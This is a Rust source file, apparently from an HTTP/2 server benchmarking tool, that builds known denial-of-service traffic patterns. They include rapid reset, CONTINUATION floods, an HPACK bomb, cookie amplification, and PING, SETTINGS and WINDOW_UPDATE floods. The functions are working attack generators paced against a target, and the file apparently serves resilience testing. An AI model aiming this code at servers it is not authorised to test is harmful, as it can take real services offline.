//! Frames and heads that are legal or nearly so, and too many.

use ringway_bench_h2::encode::{self, Literal};
use ringway_bench_h2::frame::{self, WINDOW, code, flag, kind, put, put_reset, setting};

use super::{Http2, again, asking, get};
use crate::pacer::{Pacer, Signals};
use crate::site::{LARGE, PAGE};
use crate::target::Target;

/// Sends the same frame a hundred times, so many hundreds a second.
fn frames(target: &Target, signals: &Signals, rate: f64, of: fn(&mut Vec<u8>)) {
    again(target, signals, rate, &[], |_, out| {
        (0..100).for_each(|_| of(out));
        100
    });
}

pub(super) fn rapid_reset(target: &Target, signals: &Signals) {
    let block = get(PAGE.0);
    again(target, signals, 200.0, &[], |http2, out| {
        for _ in 0..100 {
            let stream = http2.head(out, &block, flag::END_STREAM);
            put_reset(out, stream, code::CANCEL);
        }
        100
    });
}

pub(super) fn made_you_reset(target: &Target, signals: &Signals) {
    let block = get(PAGE.0);
    again(target, signals, 100.0, &[(setting::INITIAL_WINDOW_SIZE, 0)], |http2, out| {
        for _ in 0..50 {
            let stream = http2.head(out, &block, flag::END_STREAM);
            frame::put_window_update(out, stream, 0);
        }
        50
    });
}

pub(super) fn refused(target: &Target, signals: &Signals) {
    let block = get(LARGE.0);
    again(target, signals, 200.0, &[(setting::INITIAL_WINDOW_SIZE, 0)], |http2, out| {
        for _ in 0..100 {
            http2.head(out, &block, flag::END_STREAM);
        }
        100
    });
}

/// A field of HTTP/1, a tunnel that was not offered, and trailers that name a method.
pub(super) fn malformed(target: &Target, signals: &Signals) {
    let field = asking("GET", "/", &[("connection", "close")]);
    let tunnel = asking("CONNECT", "/", &[(":protocol", "websocket")]);
    let (post, trailers) = (asking("POST", "/", &[]), encode::block([(":method", "GET")]));
    again(target, signals, 100.0, &[], |http2, out| {
        for number in 0..50 {
            match number % 3 {
                0 => _ = http2.head(out, &field, flag::END_STREAM),
                1 => _ = http2.head(out, &tunnel, 0),
                _ => {
                    let stream = http2.head(out, &post, 0);
                    let flags = flag::END_HEADERS | flag::END_STREAM;
                    put(out, kind::HEADERS, flags, stream, &trailers);
                }
            }
        }
        50
    });
}

pub(super) fn continuations(target: &Target, signals: &Signals) {
    signals.ready();
    let mut pacer = Pacer::new(100.0);
    let mut out = Vec::new();
    put(&mut out, kind::HEADERS, flag::END_STREAM, 1, &get(PAGE.0));
    for _ in 0..60 {
        put(&mut out, kind::CONTINUATION, 0, 1, &[0x82; 1000]);
    }
    while pacer.wait(signals) {
        // The server ends it once the head is too long.
        let sent = Http2::open(target, &[]).and_then(|mut http2| http2.tls.send(&out));
        if sent.is_ok() { signals.did(1) } else { signals.turned_away() }
    }
}

pub(super) fn hpack_bomb(target: &Target, signals: &Signals) {
    let mut block = get(PAGE.0);
    encode::literal(&mut block, Literal::Indexed, b"bomb", &[b'x'; 3900]);
    (0..12_000).for_each(|_| encode::indexed(&mut block, 62));
    again(target, signals, 100.0, &[], |http2, out| {
        http2.head(out, &block, flag::END_STREAM);
        1
    });
}

pub(super) fn cookies(target: &Target, signals: &Signals) {
    let mut block = get(PAGE.0);
    encode::literal(&mut block, Literal::Indexed, b"cookie", b"a=b");
    (0..2000).for_each(|_| encode::indexed(&mut block, 62));
    again(target, signals, 200.0, &[], |http2, out| {
        http2.head(out, &block, flag::END_STREAM);
        1
    });
}

pub(super) fn pings(target: &Target, signals: &Signals) {
    frames(target, signals, 200.0, |out| put(out, kind::PING, 0, 0, b"attacker"));
}

pub(super) fn settings(target: &Target, signals: &Signals) {
    frames(target, signals, 100.0, |out| put(out, kind::SETTINGS, 0, 0, &[]));
}

pub(super) fn priorities(target: &Target, signals: &Signals) {
    frames(target, signals, 200.0, |out| {
        put(out, kind::PRIORITY_UPDATE, 0, 0, b"\0\0\0\x01u=1");
    });
}

pub(super) fn window_updates(target: &Target, signals: &Signals) {
    frames(target, signals, 200.0, |out| frame::put_window_update(out, 0, 1));
}

pub(super) fn empty_data(target: &Target, signals: &Signals) {
    without_content(target, signals, 0, b"");
}

pub(super) fn padding(target: &Target, signals: &Signals) {
    without_content(target, signals, flag::PADDED, b"\x01\0");
}

/// Sends this DATA on an upload, a hundred at a time.
fn without_content(target: &Target, signals: &Signals, flags: u8, payload: &[u8]) {
    let block = asking("POST", "/", &[]);
    again(target, signals, 200.0, &[], |http2, out| {
        if http2.next == 1 {
            http2.head(out, &block, 0);
        }
        (0..100).for_each(|_| put(out, kind::DATA, flags, 1, payload));
        100
    });
}

/// Each stream is left before its window is used up.
pub(super) fn tiny_data(target: &Target, signals: &Signals) {
    let block = asking("POST", "/", &[]);
    let (mut stream, mut sent) = (0, 0);
    again(target, signals, 100.0, &[], |http2, out| {
        if http2.next == 1 || sent + 500 > WINDOW {
            (stream, sent) = (http2.head(out, &block, 0), 0);
        }
        (0..500).for_each(|_| put(out, kind::DATA, 0, stream, b"x"));
        sent += 500;
        500
    });
}
